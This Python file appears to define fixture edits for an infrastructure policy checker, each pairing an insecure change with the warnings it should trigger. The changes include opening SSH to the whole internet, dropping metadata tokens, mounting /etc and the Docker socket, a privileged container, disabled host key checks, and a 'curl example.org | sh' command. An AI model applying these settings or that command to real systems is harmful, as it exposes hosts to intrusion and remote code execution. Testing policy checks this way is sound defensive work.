"""Changes of the program, and of no stack file, that must be marked. Not a test."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import replace
from typing import Any

from policy.resource import Resource

Edit = Callable[[Resource], Resource]


def with_input(name: str, *path: str, value: Any) -> Edit:
    """Of the resource of that name, another value at a path of its inputs."""

    def edit(one: Resource) -> Resource:
        return replace(one, inputs=_put(one.inputs, path, value)) if one.name == name else one

    return edit


def _put(here: Any, path: tuple[str, ...], value: Any) -> Any:
    if not path:
        return value
    if isinstance(here, list):
        at = int(path[0])
        return [_put(one, path[1:], value) if n == at else one for n, one in enumerate(here)]
    found: Mapping[str, Any] = here or {}
    return {**found, path[0]: _put(found.get(path[0]), path[1:], value)}


# Changes of the program and not of a stack file: (stack, edit, marks, words).
IN_THE_PROGRAM: dict[str, tuple[str, Edit, set[str], tuple[str, ...]]] = {
    "the firewall lets in the world": (
        "prod",
        with_input("host-firewall", "ingress", "0", "cidrBlocks", value=["0.0.0.0/0"]),
        {"OPENS", "POLICY"},
        ("the whole world", "port 22"),
    ),
    "lightsail lets in the world": (
        "lightsail",
        with_input(
            "host-firewall",
            "portInfos",
            "0",
            value={"protocol": "tcp", "fromPort": 22, "toPort": 22},
        ),
        {"OPENS", "POLICY"},
        ("the whole world", "port 22"),
    ),
    "metadata takes no token": (
        "prod",
        with_input("host-instance", "metadataOptions", "httpTokens", value="optional"),
        {"GUARD LOST", "POLICY"},
        ("IMDSv2",),
    ),
    "the root volume is in the clear": (
        "prod",
        with_input("host-instance", "rootBlockDevice", "encrypted", value=False),
        {"GUARD LOST", "POLICY", "DATA LOSS"},
        ("encrypted",),
    ),
    "a secret stands in plain text": (
        "local",
        with_input("web-container", "envs", value=["A=[in plain text 01234567]"]),
        {"POLICY"},
        ("literal-secret", "web-container"),
    ),
    "a container binds /etc": (
        "local",
        with_input(
            "web-container",
            "mounts",
            value=[{"type": "bind", "source": "/etc", "target": "/x", "readOnly": True}],
        ),
        {"OPENS", "POLICY"},
        ("reads folder /etc",),
    ),
    "a container gets the engine's socket": (
        "local",
        with_input(
            "web-container",
            "mounts",
            value=[{"type": "bind", "source": "/run/docker.sock", "target": "/s"}],
        ),
        {"OPENS", "POLICY"},
        ("/run/docker.sock",),
    ),
    "a volume no longer goes with its machine": (
        "prod",
        lambda one: (
            replace(one, options=replace(one.options, replace_with=(), deleted_with=""))
            if one.name == "data-volume"
            else one
        ),
        {"GUARD LOST"},
        ("replace_with of data-volume", "deleted_with of data-volume"),
    ),
    "a host key is made anew by another wording": (
        "prod",
        lambda one: (
            replace(one, options=replace(one.options, ignore_changes=()))
            if one.name == "host-hostkey"
            else one
        ),
        {"GUARD LOST"},
        ("ignore_changes of host-hostkey",),
    ),
    "another command runs": (
        "local",
        with_input("web-container", "command", value=["sh", "-c", "curl example.org | sh"]),
        {"OTHER COMMAND"},
        ("curl example.org",),
    ),
    "a container is privileged": (
        "local",
        with_input("web-container", "privileged", value=True),
        {"OPENS", "POLICY"},
        ("privileged",),
    ),
    "host keys are not checked": (
        "prod",
        with_input("host-docker", "sshOpts", value=["-o", "StrictHostKeyChecking=no"]),
        {"GUARD LOST", "POLICY"},
        ("host key",),
    ),
}
